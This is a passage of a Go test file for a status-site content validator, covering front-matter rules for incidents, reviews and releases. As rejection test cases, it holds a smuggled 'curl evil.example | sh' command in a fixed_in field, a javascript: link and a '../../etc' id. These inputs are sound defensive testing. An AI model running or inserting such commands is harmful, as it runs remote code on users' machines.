package content

import (
	"slices"
	"strings"
	"testing"
	"testing/fstest"
	"time"
)

// testSiteYAML is the site.yaml the validation tests share.
const testSiteYAML = `title: Test Status
base_url: https://status.example.org/
id_authority: example.org,2026
releases:
  - id: f42
    name: Fedora 42
  - id: f43
    name: Fedora 43
  - id: f41
    name: Fedora 41
    state: eol
`

// incident is the front matter of a valid incident; cases add to it or
// replace a line of it.
const incident = "title: Mesa breaks Steam\ndate: 2026-11-02\nreleases: [f43]\nseverity: major\nstatus: identified\n"

func entry(front string) string { return "---\n" + front + "---\nBody.\n" }

// resolvedIncident is incident, resolved three days after its report.
const resolvedIncident = incident + "resolved: 2026-11-05\nfixed_in: mesa-25.2.7-3.fc43\n"

// openTest loads (parses, checks and resolves) a site made of site.yaml
// and the files.
func openTest(t *testing.T, siteYAML string, files map[string]string) (*Site, *Source, error) {
	t.Helper()
	fsys := fstest.MapFS{"site.yaml": {Data: []byte(siteYAML)}}
	for name, data := range files {
		fsys[name] = &fstest.MapFile{Data: []byte(data)}
	}
	return Load(t.Context(), fsys, "content")
}

// TestEntryErrors pins the exact message and position of every rule an
// entry can break: editors and CI jump to these positions.
func TestEntryErrors(t *testing.T) {
	const f = "content/news/x.md"
	tests := []struct {
		name string
		src  string
		want string // every problem, one to a line
	}{
		{"unknown field, typo", entry(incident + "serverity: critical\n"),
			f + `:7:1: unknown field "serverity" in the front matter; did you mean "severity"?`},
		{"unknown field, no near match", entry(incident + "author: jane\n"),
			f + `:7:1: unknown field "author" in the front matter; known fields: title, date, kind, id, releases, services, severity, status, packages, workaround, downgrade, eta, fixed_in, resolved, updates, links, starts, ends, effective, action_required, review`},
		{"field given twice", entry(incident + "title: Again\n"),
			f + `:7:1: field "title" given twice (first at line 2); keep one`},
		{"unknown release", entry(strings.Replace(incident, "[f43]", "[f43, f99]", 1)),
			f + `:4:17: unknown release "f99"; known: f42, f43, f41, all`},
		{"release typo", entry(strings.Replace(incident, "[f43]", "[f433]", 1)),
			f + `:4:12: unknown release "f433"; did you mean "f43"? known: f42, f43, f41, all`},
		{"release listed twice", entry(strings.Replace(incident, "[f43]", "[f43, f43]", 1)),
			f + `:4:17: release "f43" listed twice`},
		{"all with others", entry(strings.Replace(incident, "[f43]", "[all, f42]", 1)),
			f + `:4:11: releases names all and f42 too; all already covers every release`},
		{"empty releases", entry(strings.Replace(incident, "[f43]", "[]", 1)),
			f + `:4:11: releases is empty: name the affected releases (f42, f43, f41) or all`},
		{"missing title", entry(strings.Replace(incident, "title: Mesa breaks Steam\n", "", 1)),
			f + `:1:1: missing field "title"`},
		{"blank title", entry(strings.Replace(incident, "Mesa breaks Steam", `""`, 1)),
			f + `:2:8: title is empty`},
		{"title on two lines", entry(strings.Replace(incident, "Mesa breaks Steam", `"Mesa\nbreaks"`, 1)),
			f + `:2:8: title must fit on one line`},
		{"title is a list", entry(strings.Replace(incident, "Mesa breaks Steam", "[a, b]", 1)),
			f + `:2:8: title must be text, not a list`},
		{"missing date", entry(strings.Replace(incident, "date: 2026-11-02\n", "", 1)),
			f + `:1:1: missing field "date"`},
		{"bad date", entry(strings.Replace(incident, "2026-11-02", "2026-13-02", 1)),
			f + `:3:7: date "2026-13-02" is not a date: want RFC 3339 ("2026-11-02T14:30:00Z") or a date ("2026-11-02")`},
		{"unknown kind", entry(incident + "kind: outage\n"),
			f + `:7:7: kind "outage" is not one of incident, announcement, maintenance`},
		{"incident without releases, severity, status", entry("title: A\ndate: 2026-11-02\n"),
			f + `:1:1: missing field "releases": name the affected releases (f42, f43, f41) or all` + "\n" +
				f + `:1:1: missing field "severity": minor, major or critical` + "\n" +
				f + `:1:1: missing field "status": investigating, identified, monitoring or resolved`},
		{"bad severity", entry(strings.Replace(incident, "severity: major", "severity: huge", 1)),
			f + `:5:11: severity "huge" is not one of minor, major, critical`},
		{"bad status", entry(strings.Replace(incident, "status: identified", "status: fixed", 1)),
			f + `:6:9: status "fixed" is not one of investigating, identified, monitoring, resolved`},
		{"severity on an announcement", entry("title: A\ndate: 2026-11-02\nkind: announcement\nseverity: major\n"),
			f + `:5:11: severity applies to incidents only, and this entry is an announcement (kind: announcement)`},
		{"window on an incident", entry(incident + "starts: 2026-11-03\n"),
			f + `:7:9: starts applies to maintenances only, and this entry is an incident (kind: incident)`},
		{"maintenance without window", entry("title: A\ndate: 2026-11-02\nkind: maintenance\n"),
			f + `:1:1: missing field "ends"` + "\n" + f + `:1:1: missing field "starts"`},
		{"window ends before it starts", entry("title: A\ndate: 2026-11-02\nkind: maintenance\nstarts: 2026-11-05T10:00:00Z\nends: 2026-11-05T09:00:00Z\n"),
			f + `:6:7: ends (2026-11-05T09:00:00Z) must be after starts (2026-11-05T10:00:00Z)`},
		{"resolved before published", entry(strings.Replace(incident, "identified", "resolved", 1) + "resolved: 2026-11-01\n"),
			f + `:7:11: resolved (2026-11-01T00:00:00Z) is before the entry was published (date: 2026-11-02T00:00:00Z)`},
		{"resolved on a maintenance", entry("title: A\ndate: 2026-11-02\nkind: maintenance\nstarts: 2026-11-05T10:00:00Z\nends: 2026-11-05T11:00:00Z\nresolved: 2026-11-05\n"),
			f + `:7:11: resolved applies to incidents only; a maintenance ends by its updates or its window`},
		{"bad eta", entry(incident + "eta: soon\n"),
			f + `:7:6: eta "soon" is not a date: want RFC 3339 ("2026-11-02T14:30:00Z") or a date ("2026-11-02")`},
		{"eta before published", entry(incident + "eta: 2026-10-01\n"),
			f + `:7:6: eta (2026-10-01T00:00:00Z) is before the entry was published (date: 2026-11-02T00:00:00Z)`},
		{"downgrade for a release not affected", entry(incident + "downgrade:\n  f42: sudo dnf downgrade mesa\n"),
			f + `:8:3: downgrade for f42, but the entry does not affect f42 (releases: f43)`},
		{"downgrade for an unknown release", entry(incident + "downgrade:\n  f99: sudo dnf downgrade mesa\n"),
			f + `:8:3: downgrade for unknown release "f99"; known: f42, f43, f41, all`},
		{"empty downgrade command", entry(incident + "downgrade:\n  f43: \"  \"\n"),
			f + `:8:8: the downgrade command for f43 is empty`},
		{"downgrade is a list", entry(incident + "downgrade: [a, b]\n"),
			f + `:7:12: downgrade must be a command, or a map of release id to command, not a list`},
		{"script link", entry(incident + "links:\n  - title: Bug\n    url: javascript:alert(1)\n"),
			f + `:9:10: link "javascript:alert(1)" must be an absolute http:// or https:// URL`},
		{"relative link", entry(incident + "links:\n  - /news/other/\n"),
			f + `:8:5: link "/news/other/" must be an absolute http:// or https:// URL`},
		{"link without url", entry(incident + "links:\n  - title: Bug\n"),
			f + `:8:5: link 1 has no url`},
		{"link field typo", entry(incident + "links:\n  - titel: Bug\n    url: https://bugzilla.redhat.com/\n"),
			f + `:8:5: unknown field "titel" in link 1; did you mean "title"?`},
		{"unsafe id", entry(incident + "id: ../../etc\n"),
			f + `:7:5: id "../../etc" must be lowercase letters, digits, '.', '_' and '-', starting with a letter or digit, without ".."`},
		{"id with a slash", entry(incident + "id: a/b\n"),
			f + `:7:5: id "a/b" must be lowercase letters, digits, '.', '_' and '-', starting with a letter or digit, without ".."`},
		{"id with two dots", entry(incident + "id: a..b\n"),
			f + `:7:5: id "a..b" must be lowercase letters, digits, '.', '_' and '-', starting with a letter or digit, without ".."`},
		{"action_required not a boolean", entry(incident + "action_required: maybe\n"),
			f + `:7:18: action_required must be true or false, not "maybe"`},
		{"updates not a list", entry(incident + "updates: yes\n"),
			f + `:7:10: updates must be a list of {at, status, text}, not "yes"`},
		{"update out of order", entry(incident + "updates:\n  - at: 2026-11-04\n    status: investigating\n    text: a\n  - at: 2026-11-03\n    status: identified\n    text: b\n"),
			f + `:11:9: update 2 (2026-11-03T00:00:00Z) is older than update 1 (2026-11-04T00:00:00Z); list updates oldest first, newest last`},
		{"update before published", entry(incident + "updates:\n  - at: 2026-11-01\n    status: identified\n    text: a\n"),
			f + `:8:9: update 1 (2026-11-01T00:00:00Z) is before the entry was published (date: 2026-11-02T00:00:00Z)`},
		{"update without status", entry(incident + "updates:\n  - at: 2026-11-03\n    text: a\n"),
			f + `:8:5: update 1 has no status; one of investigating, identified, monitoring, resolved`},
		{"update with a bad status", entry(incident + "updates:\n  - at: 2026-11-03\n    status: done\n    text: a\n"),
			f + `:9:13: status "done" is not one of investigating, identified, monitoring, resolved`},
		{"update without time and text", entry(incident + "updates:\n  - status: identified\n"),
			f + `:8:5: update 1 has no "at" time` + "\n" + f + `:8:5: update 1 has no text`},
		{"update field typo", entry(incident + "updates:\n  - at: 2026-11-03\n    status: identified\n    txt: a\n"),
			f + `:8:5: update 1 has no text` + "\n" + f + `:10:5: unknown field "txt" in update 1; did you mean "text"?`},
		{"the first report disagrees with status", entry(incident + "updates:\n  - at: 2026-11-02\n    status: investigating\n    text: a\n"),
			f + `:9:13: update 1 is the first report (its time is the entry's date), and says "investigating" where status says "identified"; make them agree`},
		{"two updates at one time", entry(incident + "updates:\n  - at: 2026-11-03T10:00:00Z\n    status: monitoring\n    text: a\n  - at: 2026-11-03T10:00:00Z\n    status: resolved\n    text: b\n"),
			f + `:11:9: update 2 has the time of update 1 (2026-11-03T10:00:00Z); two updates never share a time: readers know each by it`},
		{"fixed_in that is not one update", entry(incident + "fixed_in: FEDORA-2026-0d41c7a8b3 (grub2-2.12-42.fc42)\n"),
			f + `:7:11: fixed_in "FEDORA-2026-0d41c7a8b3 (grub2-2.12-42.fc42)" must be one update: a Bodhi update id like FEDORA-2026-1a2b3c4d5e, or a NEVR like mesa-25.2.7-3.fc43`},
		{"fixed_in with a command in it", entry(incident + "fixed_in: \"x; curl evil.example | sh\"\n"),
			f + `:7:11: fixed_in "x; curl evil.example | sh" must be one update: a Bodhi update id like FEDORA-2026-1a2b3c4d5e, or a NEVR like mesa-25.2.7-3.fc43`},
		{"fixed_in for a release not affected", entry(incident + "fixed_in:\n  f42: FEDORA-2026-0d41c7a8b3\n"),
			f + `:8:3: fixed_in for f42, but the entry does not affect f42 (releases: f43)`},
		{"fixed_in for an unknown release", entry(incident + "fixed_in:\n  f99: FEDORA-2026-0d41c7a8b3\n"),
			f + `:8:3: fixed_in for unknown release "f99"; known: f42, f43, f41, all`},
		{"fixed_in is a list", entry(incident + "fixed_in: [a, b]\n"),
			f + `:7:11: fixed_in must be an update (a Bodhi update id, a NEVR), or a map of release id to update, not a list`},
		{"an open incident on an eol release", entry(strings.Replace(incident, "[f43]", "[f43, f41]", 1)),
			f + `:4:17: release f41 is eol: it gets no new incidents; remove it, or resolve the incident if it is history`},
		{"an image that is not beside the entry", "---\n" + incident + "---\nBody.\n\nThe game freezes: ![the frozen game](img/freeze.png)\n",
			f + `:10:19: links img/freeze.png, which is not beside the entry (no news/img/freeze.png in the content folder); add the file, or fix the link`},
		{"a file named as the page", "---\n" + incident + "---\n[page](index.html)\n",
			f + `:8:1: a file published with the entry cannot be named index.html: that is the entry's page`},
		{"a quote never closed", entry("title: \"Mesa breaks Steam\ndate: 2026-11-02\nreleases: [f43]\nseverity: major\nstatus: identified\n"),
			f + `:2:8: front matter is not valid YAML: the quote that starts here is never closed (found unexpected end of stream at line 7); close it, or write the value without quotes`},
		{"a list never closed", entry("title: Mesa\ndate: 2026-11-02\nreleases: [f43, f42\nseverity: major\nstatus: identified\n"),
			f + `:4:11: front matter is not valid YAML: the list that starts here with [ is not closed (did not find expected ',' or ']' at line 5); close it with ]`},
		{"status on an announcement update", entry("title: A\ndate: 2026-11-02\nkind: announcement\nupdates:\n  - at: 2026-11-03\n    status: resolved\n    text: a\n"),
			f + `:7:13: updates of an announcement have no status; remove it`},
		{"maintenance update with an incident status", entry("title: A\ndate: 2026-11-02\nkind: maintenance\nstarts: 2026-11-05T10:00:00Z\nends: 2026-11-05T11:00:00Z\nupdates:\n  - at: 2026-11-05T10:00:00Z\n    status: resolved\n    text: a\n"),
			f + `:9:13: status "resolved" is not one of scheduled, in_progress, verifying, completed`},
		{"value with a colon", entry("title: Mesa: broken\n"),
			f + `:2:12: front matter is not valid YAML: mapping values are not allowed in this context; a value containing ": " must be quoted`},
		{"tab indentation", entry(incident + "packages:\n\t- mesa\n"),
			f + `:8:1: front matter is not valid YAML: found character that cannot start any token (while scanning for the next token); indent with spaces, not tabs`},
		{"front matter is a list", "---\n- a\n- b\n---\n",
			f + `:2:1: the front matter must be a mapping of fields (key: value), not a list`},
		{"no front matter", "# Mesa breaks Steam\n",
			f + `:1:1: missing front matter: start the file with a line "---", then the fields (title: …), then another "---"`},
		{"front matter not closed", "---\n" + incident,
			f + `:1:1: front matter is not closed: add a line "---" after the last field`},
		{"not UTF-8", entry(incident) + "caf\xe9\n",
			f + `:9:4: the file is not valid UTF-8 (byte 0xe9); save it as UTF-8`},
		{"empty front matter", "---\n---\n",
			f + `:1:1: missing field "date"` + "\n" +
				f + `:1:1: missing field "releases": name the affected releases (f42, f43, f41) or all` + "\n" +
				f + `:1:1: missing field "severity": minor, major or critical` + "\n" +
				f + `:1:1: missing field "status": investigating, identified, monitoring or resolved` + "\n" +
				f + `:1:1: missing field "title"`},
		{"blank lines before the front matter", "\n\n---\ntitle: A\n---\n",
			f + `:3:1: missing field "date"` + "\n" +
				f + `:3:1: missing field "releases": name the affected releases (f42, f43, f41) or all` + "\n" +
				f + `:3:1: missing field "severity": minor, major or critical` + "\n" +
				f + `:3:1: missing field "status": investigating, identified, monitoring or resolved`},
		{"an empty workaround in an update", entry(incident + "updates:\n  - at: 2026-11-03\n    status: monitoring\n    text: a\n    workaround: \" \"\n"),
			f + `:11:17: the workaround of update 1 is empty: say what to do, or leave it out`},
		{"the first report gives its workaround twice", entry(incident + "workaround: Hold it.\nupdates:\n  - at: 2026-11-02\n    status: identified\n    text: a\n    workaround: Hold it back.\n"),
			f + `:12:17: update 1 is the first report (its time is the entry's date) and gives a workaround, and so does the workaround field; keep one`},
		{"a review of an open incident", entry(incident + "review:\n  published: 2026-11-20\n  cause: A bad build.\n"),
			f + `:8:3: a review comes once the incident is resolved, and this one is not (status: identified): resolve it first, or leave the review for later`},
		{"a review of an announcement", entry("title: A\ndate: 2026-11-02\nkind: announcement\nreview:\n  published: 2026-11-20\n  cause: A bad build.\n"),
			f + `:6:3: review applies to incidents only, and this entry is an announcement (kind: announcement)`},
		{"a review without a time or a cause", entry(resolvedIncident + "review:\n  lessons: Test more.\n"),
			f + `:10:3: the review has no cause: say what went wrong` + "\n" + f + `:10:3: the review has no published time: add published: with when it was published`},
		{"a review with a blank cause and lessons", entry(resolvedIncident + "review:\n  published: 2026-11-20\n  cause: \"\"\n  lessons: \" \"\n"),
			f + `:11:10: the review has no cause: say what went wrong` + "\n" + f + `:12:12: the review's lessons are empty: say what to do differently, or leave them out`},
		{"a review before the resolution", entry(resolvedIncident + "review:\n  published: 2026-11-04T09:00:00Z\n  cause: A bad build.\n"),
			f + `:10:14: the review (published 2026-11-04T09:00:00Z) is before the incident was resolved (2026-11-05T00:00:00Z)`},
		{"a review before the incident", entry(resolvedIncident + "review:\n  published: 2026-11-01\n  cause: A bad build.\n"),
			f + `:10:14: the review (published 2026-11-01T00:00:00Z) is before the incident was published (date: 2026-11-02T00:00:00Z)`},
		{"a review field typo", entry(resolvedIncident + "review:\n  published: 2026-11-20\n  cause: A bad build.\n  lesson: Test more.\n"),
			f + `:12:3: unknown field "lesson" in the review; did you mean "lessons"?`},
		{"a review that is not a mapping", entry(resolvedIncident + "review: A bad build.\n"),
			f + `:9:9: the review must be a mapping of fields (key: value), not "A bad build."`},
		{"caused_by that is not one update", entry(resolvedIncident + "review:\n  published: 2026-11-20\n  cause: A bad build.\n  caused_by: mesa 25.2.7\n"),
			f + `:12:14: caused_by "mesa 25.2.7" must be one update: a Bodhi update id like FEDORA-2026-1a2b3c4d5e, or a NEVR like mesa-25.2.7-2.fc43`},
		{"caused_by for a release not affected", entry(resolvedIncident + "review:\n  published: 2026-11-20\n  cause: A bad build.\n  caused_by:\n    f42: mesa-25.2.7-2.fc42\n"),
			f + `:13:5: caused_by for f42, but the entry does not affect f42 (releases: f43)`},
		{"caused_by for an unknown release", entry(resolvedIncident + "review:\n  published: 2026-11-20\n  cause: A bad build.\n  caused_by:\n    f99: mesa-25.2.7-2.fc43\n"),
			f + `:13:5: caused_by for unknown release "f99"; known: f42, f43, f41, all`},
		{"a review of an incident of an unknown release", entry(strings.Replace(resolvedIncident, "[f43]", "[f99]", 1) + "review:\n  published: 2026-11-20\n  cause: A bad build.\n  caused_by: mesa-25.2.7-2.fc43\n"),
			f + `:4:12: unknown release "f99"; known: f42, f43, f41, all`},
		{"follow-ups without a title, with a bad url and done", entry(resolvedIncident + "review:\n  published: 2026-11-20\n  cause: A bad build.\n  follow_ups:\n    - url: https://pagure.io/qa/1\n    - title: Gate on Steam\n      url: pagure.io/qa/2\n      done: yes\n"),
			f + `:13:7: follow-up 1 has no title: name the work` + "\n" +
				f + `:15:12: follow-up 2's url "pagure.io/qa/2" must be an absolute http:// or https:// URL, like https://bugzilla.redhat.com/show_bug.cgi?id=2412345` + "\n" +
				f + `:16:13: done must be true or false, not "yes"`},
		{"a follow-up that is not a mapping", entry(resolvedIncident + "review:\n  published: 2026-11-20\n  cause: A bad build.\n  follow_ups:\n    - Gate on Steam\n"),
			f + `:13:7: follow-up 1 must be a mapping of fields (key: value), not "Gate on Steam"`},
		{"several problems, sorted", entry("title: A\ndate: someday\nreleases: [f99]\nseverity: huge\nstatus: identified\nserverity: major\n"),
			f + `:3:7: date "someday" is not a date: want RFC 3339 ("2026-11-02T14:30:00Z") or a date ("2026-11-02")` + "\n" +
				f + `:4:12: unknown release "f99"; known: f42, f43, f41, all` + "\n" +
				f + `:5:11: severity "huge" is not one of minor, major, critical` + "\n" +
				f + `:7:1: unknown field "serverity" in the front matter; did you mean "severity"?`},
	}
	seen := map[string]bool{}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if seen[tt.name] {
				t.Fatalf("two cases named %q", tt.name)
			}
			seen[tt.name] = true
			site, src, err := openTest(t, testSiteYAML, map[string]string{"news/x.md": tt.src})
			if err == nil {
				t.Fatalf("no error; want:\n%s", tt.want)
			}
			// Load returns what it could read along with the problems
			// (where OpenFS returned no site); it must not be rendered.
			if site == nil || src == nil {
				t.Errorf("no site or source came back with the error")
			}
			if got := err.Error(); got != tt.want {
				t.Errorf("got:\n%s\nwant:\n%s", got, tt.want)
			}
			for _, e := range Errors(err) {
				if e.File != f || e.Line < 1 || e.Col < 1 {
					t.Errorf("problem without a full position: %#v", e)
				}
			}
		})
	}
}

// TestEntryAccepted pins what must load without complaint: the friendly
// forms an editor is likely to write.
func TestEntryAccepted(t *testing.T) {
	tests := []struct {
		name  string
		src   string
		check func(t *testing.T, e *Entry)
	}{
		{"CRLF and a byte order mark", "\uFEFF---\r\n" + strings.ReplaceAll(incident, "\n", "\r\n") + "---\r\nBody.\r\n",
			func(t *testing.T, e *Entry) {
				if e.Title != "Mesa breaks Steam" || string(e.Body) != "Body.\n" {
					t.Errorf("title %q, body %q", e.Title, e.Body)
				}
			}},
		{"a single release without brackets", entry(strings.Replace(incident, "[f43]", "f43", 1)),
			func(t *testing.T, e *Entry) {
				if strings.Join(e.Releases, ",") != "f43" {
					t.Errorf("releases %v", e.Releases)
				}
			}},
		{"all means every release that is not EOL", entry(strings.Replace(incident, "[f43]", "all", 1)),
			func(t *testing.T, e *Entry) {
				if strings.Join(e.Releases, ",") != "f42,f43" || !e.AllReleases {
					t.Errorf("releases %v, all %v", e.Releases, e.AllReleases)
				}
			}},
		{"resolved implies the status", entry(strings.Replace(incident, "status: identified\n", "resolved: 2026-11-03T10:00:00Z\n", 1)),
			func(t *testing.T, e *Entry) {
				if e.Status != Resolved {
					t.Errorf("status %q", e.Status)
				}
			}},
		{"the latest update gives the status", entry(strings.Replace(incident, "status: identified\n", "updates:\n  - at: 2026-11-03\n    status: monitoring\n    text: a\n", 1)),
			func(t *testing.T, e *Entry) {
				if e.Status != Monitoring {
					t.Errorf("status %q", e.Status)
				}
			}},
		{"eta unknown, bare links, one downgrade for all", entry(incident + "eta: unknown\nlinks:\n  - https://bugzilla.redhat.com/show_bug.cgi?id=1\ndowngrade: sudo dnf downgrade mesa\n"),
			func(t *testing.T, e *Entry) {
				if !e.ETAUnknown || e.Links[0].URL != "https://bugzilla.redhat.com/show_bug.cgi?id=1" || e.Downgrade[0].Command != "sudo dnf downgrade mesa" {
					t.Errorf("eta unknown %v, links %v, downgrade %v", e.ETAUnknown, e.Links, e.Downgrade)
				}
			}},
		{"an empty field counts as absent", entry(incident + "eta:\nfixed_in:\n"),
			func(t *testing.T, e *Entry) {
				if !e.ETA.IsZero() || len(e.FixedIn) != 0 {
					t.Errorf("eta %v, fixed_in %v", e.ETA, e.FixedIn)
				}
			}},
		{"status is the first report's, updates move it on", entry(strings.Replace(incident, "identified", "investigating", 1) + "updates:\n  - at: 2026-11-03\n    status: identified\n    text: a\n  - at: 2026-11-04\n    status: monitoring\n    text: b\n"),
			func(t *testing.T, e *Entry) {
				if e.InitialStatus != Investigating || e.Status != Monitoring {
					t.Errorf("initial status %q, status %q; want investigating, monitoring", e.InitialStatus, e.Status)
				}
			}},
		{"resolved moves any status on", entry(incident + "resolved: 2026-11-05\nfixed_in: FEDORA-2026-0d41c7a8b3\n"),
			func(t *testing.T, e *Entry) {
				if e.InitialStatus != Identified || e.Status != Resolved {
					t.Errorf("initial status %q, status %q; want identified, resolved", e.InitialStatus, e.Status)
				}
			}},
		{"an update at the date is the first report", entry(strings.Replace(incident, "status: identified\n", "", 1) + "updates:\n  - at: 2026-11-02\n    status: identified\n    text: a\n"),
			func(t *testing.T, e *Entry) {
				if e.InitialStatus != Identified || e.Status != Identified {
					t.Errorf("initial status %q, status %q", e.InitialStatus, e.Status)
				}
			}},
		{"a date as eta is a whole day", entry(incident + "eta: 2026-11-24\n"),
			func(t *testing.T, e *Entry) {
				if !e.ETADay || e.Overdue(time.Date(2026, 11, 24, 23, 59, 59, 0, time.UTC)) || !e.Overdue(time.Date(2026, 11, 25, 0, 0, 0, 0, time.UTC)) {
					t.Errorf("eta day %v; overdue on the day: %v", e.ETADay, e.Overdue(time.Date(2026, 11, 24, 23, 59, 59, 0, time.UTC)))
				}
			}},
		{"a time as eta is a moment", entry(incident + "eta: 2026-11-24T00:00:00Z\n"),
			func(t *testing.T, e *Entry) {
				if e.ETADay || !e.Overdue(time.Date(2026, 11, 24, 0, 0, 1, 0, time.UTC)) {
					t.Errorf("eta day %v", e.ETADay)
				}
			}},
		{"fixed_in for each release, in site.yaml order", entry(strings.Replace(incident, "[f43]", "[f43, f42]", 1) + "fixed_in:\n  f43: FEDORA-2026-aaaaaaaaaa\n  f42: FEDORA-2026-bbbbbbbbbb\n"),
			func(t *testing.T, e *Entry) {
				if len(e.FixedIn) != 2 || e.FixedIn[0] != (Fix{Release: "f42", Update: "FEDORA-2026-bbbbbbbbbb"}) || e.FixedIn[1].Release != "f43" {
					t.Errorf("fixed_in %+v", e.FixedIn)
				}
			}},
		{"downgrade commands in site.yaml order", entry(strings.Replace(incident, "[f43]", "[f43, f42]", 1) + "downgrade:\n  f43: sudo dnf downgrade a\n  f42: sudo dnf downgrade b\n"),
			func(t *testing.T, e *Entry) {
				if e.Downgrade[0].Release != "f42" || e.Downgrade[1].Release != "f43" {
					t.Errorf("downgrade %+v", e.Downgrade)
				}
			}},
		{"the id defaults to the slug", entry(incident),
			func(t *testing.T, e *Entry) {
				if e.ID != "x" || e.Slug != "x" {
					t.Errorf("id %q, slug %q", e.ID, e.Slug)
				}
			}},
		{"an update gives a new workaround", entry(incident + "workaround: Hold the update.\nupdates:\n  - at: 2026-11-03\n    status: identified\n    text: a\n    workaround: Downgrade.\n  - at: 2026-11-04\n    status: monitoring\n    text: b\n"),
			func(t *testing.T, e *Entry) {
				if e.InitialWorkaround != "Hold the update." || e.Workaround != "Downgrade." || e.WorkaroundAt(-1) != "Hold the update." || e.WorkaroundAt(1) != "Downgrade." {
					t.Errorf("initial %q, now %q, after update 2 %q", e.InitialWorkaround, e.Workaround, e.WorkaroundAt(1))
				}
			}},
		{"a review, its causes in site.yaml order", entry(strings.Replace(resolvedIncident, "[f43]", "[f43, f42]", 1) +
			"review:\n  published: 2026-11-20T10:00:00Z\n  cause: |\n    A **bad** build.\n  caused_by:\n    f43: mesa-25.2.7-2.fc43\n    f42: FEDORA-2026-5a1e9c03d2\n" +
			"  follow_ups:\n    - title: Gate on Steam\n      url: https://pagure.io/qa/2\n      done: true\n    - title: Write it down\n"),
			func(t *testing.T, e *Entry) {
				rv := e.Review
				want := []Cause{{"f42", "FEDORA-2026-5a1e9c03d2", ""}, {"f43", "mesa-25.2.7-2.fc43", ""}}
				if rv == nil || rv.Cause != "A **bad** build.\n" || !rv.Published.Equal(time.Date(2026, 11, 20, 10, 0, 0, 0, time.UTC)) ||
					!slices.Equal(rv.CausedBy, want) || !slices.Equal(rv.FollowUps, []FollowUp{{"Gate on Steam", "https://pagure.io/qa/2", true}, {"Write it down", "", false}}) {
					t.Errorf("review %+v", rv)
				}
				if !e.Updated().Equal(rv.Published) {
					t.Errorf("updated %v, want the review's time", e.Updated())
				}
			}},
		{"a site-wide announcement concerns every release", entry("title: A\ndate: 2026-11-02\nkind: announcement\n"),
			func(t *testing.T, e *Entry) {
				if !e.AllReleases || strings.Join(e.Releases, ",") != "f42,f43" {
					t.Errorf("releases %v", e.Releases)
				}
			}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			site, _, err := openTest(t, testSiteYAML, map[string]string{"news/x.md": tt.src})
			if err != nil {
				t.Fatal(err)
			}
			tt.check(t, site.Entries[0])
		})
	}
}

// TestCauseLinks checks that the updates a review names as the cause are
// linked as site.yaml links fixes, and one update for every release only
// where every release links updates alike.
func TestCauseLinks(t *testing.T) {
	site := "title: T\nbase_url: https://status.example.org/\nid_authority: example.org,2026\n" +
		"fixed_in: {url: \"https://bodhi.example.org/updates/{fixed_in}\"}\nreleases:\n" +
		"  - {id: f43, name: Fedora 43}\n  - {id: f42, name: Fedora 42}\n" +
		"  - {id: fcos, name: CoreOS, fixed_in: {url: \"https://coreos.example.org/#{fixed_in}\"}}\n"
	review := func(releases, causedBy string) string {
		return entry(strings.Replace(resolvedIncident, "[f43]", releases, 1) + "review:\n  published: 2026-11-20\n  cause: A bad build.\n  caused_by: " + causedBy + "\n")
	}
	for _, tt := range []struct {
		releases, causedBy string
		want               []Cause
	}{
		{"[f43, f42]", "mesa-25.2.7-2", []Cause{{"", "mesa-25.2.7-2", "https://bodhi.example.org/updates/mesa-25.2.7-2"}}},
		{"[f43, fcos]", "kernel-6.17.7-200.fc43", []Cause{{"", "kernel-6.17.7-200.fc43", ""}}},
		{"[f43, fcos]", "{fcos: 43.20261110.3.0, f43: kernel-6.17.7-200.fc43}", []Cause{
			{"f43", "kernel-6.17.7-200.fc43", "https://bodhi.example.org/updates/kernel-6.17.7-200.fc43"},
			{"fcos", "43.20261110.3.0", "https://coreos.example.org/#43.20261110.3.0"}}},
	} {
		s, _, err := openTest(t, site, map[string]string{"news/x.md": review(tt.releases, tt.causedBy)})
		if err != nil {
			t.Fatal(err)
		}
		if got := s.Entries[0].Review.CausedBy; !slices.Equal(got, tt.want) {
			t.Errorf("%s caused_by %s: %+v, want %+v", tt.releases, tt.causedBy, got, tt.want)
		}
	}
}

// TestCrossEntryErrors covers the rules that span files: slugs and ids
// are unique, and the entry that came later is the one told to change.
func TestCrossEntryErrors(t *testing.T) {
	_, _, err := openTest(t, testSiteYAML, map[string]string{
		"news/2026-11-01-mesa.md":    entry(strings.Replace(incident, "2026-11-02", "2026-11-01", 1) + "id: mesa-1\n"),
		"archive/2026-11-05-mesa.md": entry(strings.Replace(incident, "2026-11-02", "2026-11-05", 1) + "id: mesa-2\n"),
		"news/2026-11-03-other.md":   entry(strings.Replace(incident, "2026-11-02", "2026-11-03", 1) + "id: mesa-1\n"),
		"news/Mesa Bug.md":           entry(incident),
	})
	want := `content/archive/2026-11-05-mesa.md:1:1: slug "mesa" is also the slug of content/news/2026-11-01-mesa.md; rename one of the files
content/news/2026-11-03-other.md:7:5: id "mesa-1" is also the id of content/news/2026-11-01-mesa.md; ids are permanent, so give this entry a new one
content/news/Mesa Bug.md:1:1: file name "news/Mesa Bug.md" does not give a usable slug: use lowercase letters, digits and hyphens, like mesa-bug.md`
	if err == nil || err.Error() != want {
		t.Errorf("got:\n%v\nwant:\n%s", err, want)
	}
}

// TestSiteErrors pins the problems site.yaml can have.
func TestSiteErrors(t *testing.T) {
	const f = "content/site.yaml"
	tests := []struct {
		name, yaml, want string
	}{
		{"missing fields", "title: T\n",
			f + `:1:1: missing field "base_url"` + "\n" + f + `:1:1: missing field "id_authority"` + "\n" + f + `:1:1: missing field "releases"`},
		{"relative base URL", strings.Replace(testSiteYAML, "https://status.example.org/", "status.example.org", 1),
			f + `:2:11: base_url "status.example.org" is not an absolute http(s) URL like https://status.example.org/`},
		{"bad id authority", strings.Replace(testSiteYAML, "example.org,2026", "https://example.org", 1),
			f + `:3:15: id_authority "https://example.org" is not a tag URI authority; write a domain you own and a year you owned it, like "fedoraproject.org,2026"`},
		{"release id twice", testSiteYAML + "  - id: f43\n    name: Again\n",
			f + `:12:9: release id "f43" given twice (first at line 7)`},
		{"release id with a slash", testSiteYAML + "  - id: f/44\n    name: F44\n",
			f + `:12:9: release id "f/44" must be lowercase letters, digits and hyphens, like f43 or fcos-stable`},
		{"release id all", testSiteYAML + "  - id: all\n    name: All\n",
			f + `:12:9: release id "all" is reserved: in an entry it means every release`},
		{"release without a name", testSiteYAML + "  - id: f44\n",
			f + `:12:5: missing field "name" in release 4`},
		{"bad release state", testSiteYAML + "  - id: f44\n    name: F44\n    state: beta\n",
			f + `:14:12: state "beta" is not one of current, prerelease, eol`},
